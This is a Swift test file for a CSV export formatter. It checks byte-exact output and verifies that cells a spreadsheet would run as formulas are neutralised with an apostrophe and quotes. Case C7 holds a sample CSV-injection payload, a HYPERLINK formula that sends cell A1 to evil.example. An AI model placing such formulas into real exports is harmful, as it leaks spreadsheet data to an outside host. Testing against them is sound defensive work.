import CSV
import Crypto
import Testing

/// The export byte by byte, as it was agreed: C1 to C15.
@Suite struct CSVFormatTests {
    private struct Case {
        let name: String
        var isRaw = false
        var separator = CSVFormat.Separator.comma
        let fields: [CSVField]
        let hex: String
    }

    private static let cases = [
        Case(
            name: "C1 headings",
            fields: [.text("First name"), .text("Last name"), .text("E-mail"), .text("Score")],
            hex:
                "46 69 72 73 74 20 6e 61 6d 65 2c 4c 61 73 74 20 6e 61 6d 65 2c 45 2d 6d 61 69 6c 2c 53 63 6f 72 65 0d 0a"
        ),
        Case(
            name: "C2 plain",
            fields: [.text("Anna"), .text("Schmidt"), .text("anna@example.org"), .number("7")],
            hex:
                "41 6e 6e 61 2c 53 63 68 6d 69 64 74 2c 61 6e 6e 61 40 65 78 61 6d 70 6c 65 2e 6f 72 67 2c 37 0d 0a"
        ),
        Case(
            name: "C3 comma",
            fields: [.text("Martin Luther"), .text("King, Jr."), .text("mlk@example.org"), .number("10")],
            hex:
                "4d 61 72 74 69 6e 20 4c 75 74 68 65 72 2c 22 4b 69 6e 67 2c 20 4a 72 2e 22 2c 6d 6c 6b 40 65 78 61 6d 70 6c 65 2e 6f 72 67 2c 31 30 0d 0a"
        ),
        Case(
            name: "C4 double quotes",
            fields: [.text("Will \"the Pill\""), .text("O\"Neil"), .text("w@example.org"), .number("0")],
            hex:
                "22 57 69 6c 6c 20 22 22 74 68 65 20 50 69 6c 6c 22 22 22 2c 22 4f 22 22 4e 65 69 6c 22 2c 77 40 65 78 61 6d 70 6c 65 2e 6f 72 67 2c 30 0d 0a"
        ),
        Case(
            name: "C5 apostrophe",
            fields: [.text("Seán"), .text("O'Brien"), .text("o'brien@example.com"), .number("3")],
            hex:
                "53 65 c3 a1 6e 2c 4f 27 42 72 69 65 6e 2c 6f 27 62 72 69 65 6e 40 65 78 61 6d 70 6c 65 2e 63 6f 6d 2c 33 0d 0a"
        ),
        Case(
            name: "C6 formula in a name",
            fields: [.text("=1+1"), .text("@SUM(A1)"), .text("f@example.org"), .number("5")],
            hex:
                "22 27 3d 31 2b 31 22 2c 22 27 40 53 55 4d 28 41 31 29 22 2c 66 40 65 78 61 6d 70 6c 65 2e 6f 72 67 2c 35 0d 0a"
        ),
        Case(
            name: "C7 formula with quotes and comma",
            fields: [
                .text("=HYPERLINK(\"http://evil.example/?\"&A1,\"Win\")"), .text("Lee"),
                .text("l@example.org"),
                .number("5"),
            ],
            hex:
                "22 27 3d 48 59 50 45 52 4c 49 4e 4b 28 22 22 68 74 74 70 3a 2f 2f 65 76 69 6c 2e 65 78 61 6d 70 6c 65 2f 3f 22 22 26 41 31 2c 22 22 57 69 6e 22 22 29 22 2c 4c 65 65 2c 6c 40 65 78 61 6d 70 6c 65 2e 6f 72 67 2c 35 0d 0a"
        ),
        Case(
            name: "C8 e-mail that starts with plus",
            fields: [.text("Ana"), .text("Silva"), .text("+491701234567@sms.example.com"), .number("6")],
            hex:
                "41 6e 61 2c 53 69 6c 76 61 2c 22 27 2b 34 39 31 37 30 31 32 33 34 35 36 37 40 73 6d 73 2e 65 78 61 6d 70 6c 65 2e 63 6f 6d 22 2c 36 0d 0a"
        ),
        Case(
            name: "C9 the same in the raw export", isRaw: true,
            fields: [.text("Ana"), .text("Silva"), .text("+491701234567@sms.example.com"), .number("6")],
            hex:
                "41 6e 61 2c 53 69 6c 76 61 2c 2b 34 39 31 37 30 31 32 33 34 35 36 37 40 73 6d 73 2e 65 78 61 6d 70 6c 65 2e 63 6f 6d 2c 36 0d 0a"
        ),
        Case(
            name: "C10 line break inside",
            fields: [.text("Ann\nMarie"), .text("Lee"), .text("al@example.org"), .number("4")],
            hex:
                "22 41 6e 6e 0a 4d 61 72 69 65 22 2c 4c 65 65 2c 61 6c 40 65 78 61 6d 70 6c 65 2e 6f 72 67 2c 34 0d 0a"
        ),
        Case(
            name: "C11 signs beyond ASCII",
            fields: [.text("Żółć"), .text("山田"), .text("z@example.org"), .number("9")],
            hex:
                "c5 bb c3 b3 c5 82 c4 87 2c e5 b1 b1 e7 94 b0 2c 7a 40 65 78 61 6d 70 6c 65 2e 6f 72 67 2c 39 0d 0a"
        ),
        Case(
            name: "C12 emoji of several code points",
            fields: [
                .text("\u{1F469}\u{1F3FD}\u{200D}\u{1F4BB}"), .text("Dev"), .text("e@example.org"),
                .number("9"),
            ],
            hex:
                "f0 9f 91 a9 f0 9f 8f bd e2 80 8d f0 9f 92 bb 2c 44 65 76 2c 65 40 65 78 61 6d 70 6c 65 2e 6f 72 67 2c 39 0d 0a"
        ),
        Case(
            name: "C13 leading zeros",
            fields: [.text("007"), .text("1E5"), .text("bond@example.org"), .number("8")],
            hex: "30 30 37 2c 31 45 35 2c 62 6f 6e 64 40 65 78 61 6d 70 6c 65 2e 6f 72 67 2c 38 0d 0a"),
        Case(
            name: "C14 negative score and missing e-mail",
            fields: [.text("Bob"), .text("Lee"), .missing, .number(-3)],
            hex: "42 6f 62 2c 4c 65 65 2c 2c 2d 33 0d 0a"),
        Case(
            name: "C15 semicolon chosen", separator: .semicolon,
            fields: [.text("Max"), .text("Muster;mann"), .text("m,m@example.org"), .seconds(1_500)],
            hex:
                "4d 61 78 3b 22 4d 75 73 74 65 72 3b 6d 61 6e 6e 22 3b 6d 2c 6d 40 65 78 61 6d 70 6c 65 2e 6f 72 67 3b 31 2e 35 0d 0a"
        ),
    ]

    @Test(arguments: cases.indices)
    func `a record is this, byte for byte`(_ index: Int) throws {
        let one = Self.cases[index]
        var bytes: [UInt8] = []
        CSVFormat(separator: one.separator, isRaw: one.isRaw).append(one.fields, to: &bytes)
        #expect(Hex.encode(bytes) == one.hex.filter { $0 != " " }, "\(one.name)")
    }

    @Test(arguments: ["=a", "+a", "-a", "@a", "\ta", "\ra", "\na", "＝a", "＋a", "－a", "＠a"])
    func `what a spreadsheet would run is guarded and quoted`(_ text: String) {
        var bytes: [UInt8] = []
        CSVFormat().append([.text(text)], to: &bytes)
        #expect(String(decoding: bytes, as: UTF8.self) == "\"'\(text)\"\r\n")
    }

    @Test(arguments: [" a", "a ", "a\rb", "a\r\nb"])
    func `blanks at the ends and line breaks are quoted`(_ text: String) {
        var bytes: [UInt8] = []
        CSVFormat(isRaw: true).append([.text(text), .text("")], to: &bytes)
        #expect(String(decoding: bytes, as: UTF8.self) == "\"\(text)\",\r\n")
    }

    @Test func `seconds have the decimals that they need`() {
        #expect(CSVField.seconds(50_000) == .number("50"))
        #expect(CSVField.seconds(50_040) == .number("50.04"))
        #expect(CSVField.seconds(1) == .number("0.001"))
        #expect(CSVField.seconds(-1_500) == .number("-1.5"))
        #expect(CSVField.seconds(nil) == .missing)
    }

    @Test func `only the spreadsheet export has a byte order mark`() {
        #expect(CSVFormat().start == [0xEF, 0xBB, 0xBF])
        #expect(CSVFormat(isRaw: true).start == [])
    }
}
